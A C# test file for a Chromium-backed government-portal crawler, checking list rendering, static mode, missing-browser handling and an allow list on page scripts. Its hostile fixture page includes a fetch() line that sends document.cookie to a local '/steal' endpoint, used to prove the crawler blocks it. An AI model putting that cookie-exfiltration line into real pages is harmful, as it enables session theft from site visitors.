using System.Text;
using Monitor.Crawler.Evidence;
using Monitor.Crawler.Fetching;
using Monitor.Crawler.Rendering;
using Monitor.Crawler.Tests.Support;

namespace Monitor.Crawler.Tests.Rendering;

/// <summary>
/// Columns whose list is built by script, crawled through the real Chromium: render: auto finds the entries the
/// script writes, render: static never starts the browser, a missing browser makes the column not assessed (never an
/// empty, non-compliant column), and a page's script cannot reach a host off the allow list.
/// </summary>
public sealed class ScriptBuiltListTests : IAsyncLifetime
{
    private readonly TestSite _site = new();
    private readonly TestSite _offsite = new();
    private readonly InMemoryEvidenceStore _evidence = new();
    private KestrelSite _server = null!;
    private KestrelSite _offsiteServer = null!;
    private HttpClient _http = null!;

    public async Task InitializeAsync()
    {
        _server = await KestrelSite.StartAsync(_site);
        _offsiteServer = await KestrelSite.StartAsync(_offsite);
        _http = new HttpClient(PageFetcher.CreateHandler()) { Timeout = Timeout.InfiniteTimeSpan };
        _offsite.Route("/steal", _ => SiteResponse.Html("stolen"));
        _offsite.Route("/tracker.js", _ => new SiteResponse(200, "window.tracked = 1;"u8.ToArray(), "text/javascript"));
        _offsite.Route("/pixel.gif", _ => new SiteResponse(200, [], "image/gif"));

        _site.Route("/col/js/index.html", _ => SiteResponse.Html(ScriptBuiltPage("data.json", "")));
        _site.Route("/col/js/data.json", _ => new SiteResponse(200, Encoding.UTF8.GetBytes(
            """
            [{"title":"县政府召开常务会议","url":"/art/1.html","date":"2026-11-20"},
             {"title":"关于开展安全生产检查的通知","url":"/art/2.html","date":"2026-11-18"},
             {"title":"十一月份工作简报","url":"/art/3.html","date":"2026-11-02"}]
            """), "application/json; charset=utf-8"));
        var offsite = _offsiteServer.Root;
        _site.Route("/col/hostile/index.html", _ => SiteResponse.Html(ScriptBuiltPage("../js/data.json",
            $$"""
            <script src="{{offsite}}tracker.js"></script>
            <img src="{{offsite}}pixel.gif">
            <script>
              fetch('{{offsite}}steal?c=' + encodeURIComponent(document.cookie)).catch(function () {});
              var x = new XMLHttpRequest(); x.open('GET', 'http://localhost:{{_offsiteServer.Port}}/steal'); x.send();
            </script>
            """)));
        for (var i = 1; i <= 3; i++)
        {
            var n = i;
            _site.Route($"/art/{n}.html", _ => SiteResponse.Html(
                $"<html><head><meta name=\"ArticleTitle\" content=\"文章{n}\"><meta name=\"PubDate\" content=\"2026-11-20 09:00\"></head><body><h1>文章{n}</h1><div id=\"zoom\">正文{n}</div></body></html>"));
        }
    }

    public async Task DisposeAsync()
    {
        _http.Dispose();
        await _server.DisposeAsync();
        await _offsiteServer.DisposeAsync();
    }

    private static string ScriptBuiltPage(string dataPath, string extra) =>
        $$"""
        <!DOCTYPE html>
        <html><head><meta charset="utf-8"><title>通知公告</title></head>
        <body>
        <ul class="nav"><li><a href="/">首页</a></li><li><a href="/col/js/index.html">通知公告</a></li></ul>
        <h2>通知公告</h2>
        <ul id="list" class="list"></ul>
        <script>
        (function () {
          var list = document.getElementById('list');
          fetch('{{dataPath}}').then(function (r) { return r.json(); }).then(function (items) {
            items.forEach(function (item) {
              var li = document.createElement('li');
              var a = document.createElement('a');
              a.setAttribute('href', item.url);
              a.textContent = item.title;
              var date = document.createElement('span');
              date.textContent = item.date;
              li.appendChild(a);
              li.appendChild(date);
              list.appendChild(li);
            });
          });
        })();
        </script>
        {{extra}}
        </body></html>
        """;

    private CrawlerOptions Options => new()
    {
        RequestTimeout = TimeSpan.FromSeconds(10),
        PerHostMinDelay = TimeSpan.Zero,
        // Both test servers listen on 127.0.0.1: the allow list names the portal's port only.
        AllowedHosts = new HashSet<string>(StringComparer.OrdinalIgnoreCase) { _server.Root.Authority },
    };

    private static BrowserOptions Browser(string path = ChromiumFactAttribute.Path) =>
        new() { ExecutablePath = path, Timeout = TimeSpan.FromSeconds(20) };

    private SourceCrawler Crawler(SourceSpec spec, IPageRenderer? renderer) =>
        SourceCrawler.Create(_http, Options, [spec], _evidence, TimeProvider.System, renderer: renderer);

    private SourceSpec Column(string path, RenderMode render) =>
        new("js-col", new Uri(_server.Root, path), SourceType.Column) { Render = render };

    [ChromiumFact]
    public async Task Auto_renders_a_script_built_list_and_finds_every_entry()
    {
        await using var renderer = new ChromiumRenderer(Browser(), _evidence, TimeProvider.System);
        var spec = Column("/col/js/index.html", RenderMode.Auto);

        var result = await Crawler(spec, renderer).CrawlAsync(spec, CancellationToken.None);

        Assert.True(result.Succeeded, result.FailureReason);
        Assert.True(result.Rendered);
        Assert.Equal(
            ["/art/1.html", "/art/2.html", "/art/3.html"],
            result.Documents.Select(d => d.Entry.Url.AbsolutePath).ToArray());
        Assert.Equal(new DateOnly(2026, 11, 20), result.Documents[0].Entry.Date);
        Assert.All(result.Documents, d => Assert.True(d.Fetch.Succeeded));
        Assert.Equal("文章2", result.Documents[1].Article?.Title);
        // The rendered DOM is evidence of what the list showed.
        var rendered = Assert.Single(result.ListPages, p => p.Evidence?.Method == "RENDER");
        var stored = Encoding.UTF8.GetString((await _evidence.ReadAsync(rendered.Evidence!.Sha256))!);
        Assert.Contains("关于开展安全生产检查的通知", stored, StringComparison.Ordinal);
        // Articles stay static fetches.
        Assert.DoesNotContain(_evidence.Captures, c => c.Method == "RENDER" && c.Url.Contains("/art/", StringComparison.Ordinal));
    }

    [ChromiumFact]
    public async Task Browser_mode_renders_without_a_static_fetch_first()
    {
        await using var renderer = new ChromiumRenderer(Browser(), _evidence, TimeProvider.System);
        var spec = Column("/col/js/index.html", RenderMode.Browser);

        var result = await Crawler(spec, renderer).CrawlAsync(spec, CancellationToken.None);

        Assert.True(result.Rendered);
        Assert.Equal(3, result.Documents.Count);
        Assert.Equal("RENDER", Assert.Single(result.ListPages).Evidence?.Method);
    }

    [Fact]
    public async Task Static_mode_never_starts_the_browser()
    {
        await using var renderer = new ChromiumRenderer(Browser(), _evidence, TimeProvider.System);
        var spec = Column("/col/js/index.html", RenderMode.Static);

        var result = await Crawler(spec, renderer).CrawlAsync(spec, CancellationToken.None);

        Assert.False(result.Rendered);
        Assert.Empty(result.Documents);
        Assert.False(renderer.Started);
    }

    [Fact]
    public async Task A_page_with_a_static_list_never_starts_the_browser()
    {
        _site.Route("/col/static/index.html", _ => SiteResponse.Html(
            "<html><body><ul><li><a href=\"/art/1.html\">文章1</a><span>2026-11-20</span></li></ul><script>document.title = 'x'; list.appendChild(li);</script></body></html>"));
        await using var renderer = new ChromiumRenderer(Browser(), _evidence, TimeProvider.System);
        var spec = Column("/col/static/index.html", RenderMode.Auto);

        var result = await Crawler(spec, renderer).CrawlAsync(spec, CancellationToken.None);

        Assert.False(result.Rendered);
        Assert.Single(result.Documents);
        Assert.False(renderer.Started);
    }

    [Fact]
    public async Task A_missing_browser_leaves_a_script_built_column_not_assessed()
    {
        await using var renderer = new ChromiumRenderer(Browser("/nonexistent/chromium"), _evidence, TimeProvider.System);
        var spec = Column("/col/js/index.html", RenderMode.Auto);

        var result = await Crawler(spec, renderer).CrawlAsync(spec, CancellationToken.None);

        Assert.False(result.Succeeded);
        Assert.Contains("浏览器不可用", result.FailureReason, StringComparison.Ordinal);
        Assert.Contains("/nonexistent/chromium", result.FailureReason, StringComparison.Ordinal);
        Assert.Empty(result.Documents);
    }

    [Fact]
    public async Task No_renderer_at_all_also_leaves_a_script_built_column_not_assessed()
    {
        var spec = Column("/col/js/index.html", RenderMode.Auto);

        var result = await Crawler(spec, renderer: null).CrawlAsync(spec, CancellationToken.None);

        Assert.False(result.Succeeded);
        Assert.Contains("浏览器不可用", result.FailureReason, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_browser_that_will_not_launch_is_unavailable_for_every_render()
    {
        // An executable that exists but is no browser: Playwright's launch fails.
        await using var renderer = new ChromiumRenderer(Browser("/bin/false") with { Timeout = TimeSpan.FromSeconds(10) }, _evidence, TimeProvider.System);
        var allow = new HostAllowList([_server.Root.Authority]);

        var first = await renderer.RenderAsync(new Uri(_server.Root, "/col/js/index.html"), allow, CancellationToken.None);
        var second = await renderer.RenderAsync(new Uri(_server.Root, "/col/js/index.html"), allow, CancellationToken.None);

        Assert.True(first.BrowserUnavailable);
        Assert.StartsWith("浏览器不可用", first.Page.Error, StringComparison.Ordinal);
        Assert.True(second.BrowserUnavailable);
        Assert.Equal(0, _site.Count("/col/js/index.html"));
    }

    [ChromiumFact]
    public async Task A_script_on_the_page_cannot_reach_a_host_off_the_allow_list()
    {
        await using var renderer = new ChromiumRenderer(Browser(), _evidence, TimeProvider.System);
        var spec = Column("/col/hostile/index.html", RenderMode.Browser);

        var result = await Crawler(spec, renderer).CrawlAsync(spec, CancellationToken.None);

        Assert.True(result.Succeeded, result.FailureReason);
        // The allowed data request went through (the list is there) ...
        Assert.Equal(3, result.Documents.Count);
        // ... and the off-list server saw nothing at all: not the script, the image, fetch() or XHR.
        Assert.Equal(0, _offsite.Count("/steal"));
        Assert.Equal(0, _offsite.Count("/tracker.js"));
        Assert.Equal(0, _offsite.Count("/pixel.gif"));
    }

    [ChromiumFact]
    public async Task The_renderer_reports_the_requests_it_blocked()
    {
        await using var renderer = new ChromiumRenderer(Browser(), _evidence, TimeProvider.System);
        var allow = new HostAllowList([_server.Root.Authority]);

        var render = await renderer.RenderAsync(new Uri(_server.Root, "/col/hostile/index.html"), allow, CancellationToken.None);

        Assert.True(render.Succeeded, render.Page.Error);
        Assert.Contains(render.BlockedRequests, u => u.Port == _offsiteServer.Port && u.AbsolutePath == "/tracker.js");
        Assert.Contains(render.BlockedRequests, u => u.Host == "localhost" && u.AbsolutePath == "/steal");
        Assert.Equal(0, _offsite.Count("/steal"));
    }

    [Fact]
    public async Task A_page_off_the_allow_list_is_never_rendered()
    {
        await using var renderer = new ChromiumRenderer(Browser(), _evidence, TimeProvider.System);
        var allow = new HostAllowList([_server.Root.Authority]);

        var render = await renderer.RenderAsync(new Uri(_offsiteServer.Root, "/steal"), allow, CancellationToken.None);

        Assert.Equal(FetchOutcome.Blocked, render.Page.Outcome);
        Assert.False(renderer.Started);
        Assert.Equal(0, _offsite.Count("/steal"));
    }

    [ChromiumFact]
    public async Task A_page_that_never_finishes_loading_times_out_as_data()
    {
        _site.Route("/col/slow/index.html", _ => SiteResponse.Html("<html><body><ul id=\"list\"></ul><script src=\"/col/slow/hang.js\"></script></body></html>"));
        _site.Route("/col/slow/hang.js", _ => new SiteResponse(200, [], "text/javascript") { Hang = true });
        await using var renderer = new ChromiumRenderer(Browser() with { Timeout = TimeSpan.FromSeconds(2) }, _evidence, TimeProvider.System);
        var spec = Column("/col/slow/index.html", RenderMode.Browser);

        var result = await Crawler(spec, renderer).CrawlAsync(spec, CancellationToken.None);

        Assert.False(result.Succeeded);
        Assert.True(result.Rendered);
        Assert.Equal("列表页渲染失败：页面渲染超时（2秒）", result.FailureReason);
        Assert.Equal(FetchOutcome.Timeout, Assert.Single(result.ListPages).Outcome);
    }

    [ChromiumFact]
    public async Task An_http_error_page_renders_as_an_http_error()
    {
        await using var renderer = new ChromiumRenderer(Browser(), _evidence, TimeProvider.System);
        var spec = Column("/col/missing/index.html", RenderMode.Browser);

        var result = await Crawler(spec, renderer).CrawlAsync(spec, CancellationToken.None);

        Assert.False(result.Succeeded);
        Assert.Contains("404", result.FailureReason, StringComparison.Ordinal);
    }
}
